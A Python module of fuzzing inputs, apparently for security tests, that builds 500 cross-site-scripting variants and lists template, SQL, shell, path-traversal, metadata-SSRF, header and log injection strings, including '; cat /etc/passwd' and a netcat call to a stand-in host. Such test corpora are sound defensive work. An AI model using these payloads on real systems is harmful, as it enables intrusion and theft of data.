"""What somebody hostile types: markup in 500 spellings, and texts meant for templates, databases, shells and logs."""

from __future__ import annotations

from itertools import product

CALL = "alert('x0ss')"
"""What every payload tries to run; a browser test counts its dialogs."""

_CLOSERS = ("", '">', "'>", "</textarea>", "</title>", "-->", "</script>", "\">'>`>", "]]>", "</p></main></body>")
_ELEMENTS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT >",
    "<script/x>{run}</script\n>",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img/src=x/onerror={run}//",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>'></use></svg>",
    '<math><mi xlink:href="javascript:{run}">x</mi></math>',
    "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<a href=javascript:{run}>x</a>",
    "<a href='java\tscript:{run}'>x</a>",
    "<a href=&#106;avascript:{run}>x</a>",
    "<form action=javascript:{run}><button>x</button></form>",
    "<button formaction=javascript:{run}>x</button>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}></audio>",
    "<marquee onstart={run}>x</marquee>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//x0ss.invalid/>",
    "<link rel=stylesheet href=//x0ss.invalid/x.css>",
    "<style>@import '//x0ss.invalid/x.css';</style>",
    "<style>*{{background:url(//x0ss.invalid/)}}</style>",
    "<p style='animation-name:x' onanimationstart={run}>x</p>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<x0ss onclick={run} tabindex=1>x</x0ss>",
    "<textarea autofocus onfocus={run}>x</textarea>",
    "<select onfocus={run} autofocus><option>x</select>",
    "<ruby><rt onmouseover={run}>x</rt></ruby>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[<script>{run}</script>]]>",
)
_SPELLINGS = (
    '" onmouseover={run} x="',
    "' onfocus={run} autofocus x='",
    "` onclick={run} x=`",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "%3Cscript%3E{run}%3C/script%3E",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "\\x3cscript\\x3e{run}\\x3c/script\\x3e",
    "＜script＞{run}＜/script＞",
    "﹤img src=x onerror={run}﹥",
    "‹script›{run}‹/script›",
    "<\x00script>{run}</script>",
    "<scr\x00ipt>{run}</scr\x00ipt>",
    "<img src=x one\u200brror={run}>",
    "\u202e<script>{run}</script>\u202c",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<<script>{run}//<</script>",
)


def markup() -> tuple[str, ...]:
    """500 different texts, each of which would be markup, an attribute or a script if it were ever written raw."""
    closed = [closer + element for closer, element in product(_CLOSERS, _ELEMENTS)]
    spelt = [
        before + spelling for before, spelling in product(("", "家賃が払えない ", "x=", "\r\n", "}}", "*/"), _SPELLINGS)
    ]
    return tuple(text.format(run=CALL) for text in [*closed, *spelt[:100]])


INJECTIONS = (
    "{{ 1337 * 1337 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config.items() }}",
    "${1337*1337}",
    "#{1337*1337}",
    "<%= 1337*1337 %>",
    "%(asctime)s %s %n %x",
    "{0.__class__.__init__.__globals__}",
    "' OR '1'='1' --",
    "'; DROP TABLE phrases; --",
    '" UNION SELECT password_hash FROM people --',
    "1; SELECT pg_sleep(10)",
    "$(sleep 10)",
    "`sleep 10`",
    "; cat /etc/passwd",
    "| nc x0ss.invalid 1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "*)(uid=*))(|(uid=*",
    "' or name()='x",
    "x\r\nSet-Cookie: taken=1",
    "x\r\n\r\n<html>second answer",
    "x\nERROR forged line of a log",
    "x\u2028ERROR forged\u2029line",
    "\x1b]0;title\x07\x1b[31mred",
    "-1",
    "9" * 400,
    "1e999",
    "NaN",
    "__proto__",
    "constructor.prototype",
    "null",
    "true",
    "[]",
    "{}",
    "\x00",
    "\ufeff",
    "\ud7ff\ue000",
)
"""Texts that mean something to a template, a database, a shell, a path, a header, a log or a terminal."""
COMPUTED = str(1337 * 1337)
"""What a template would have made of three of them."""
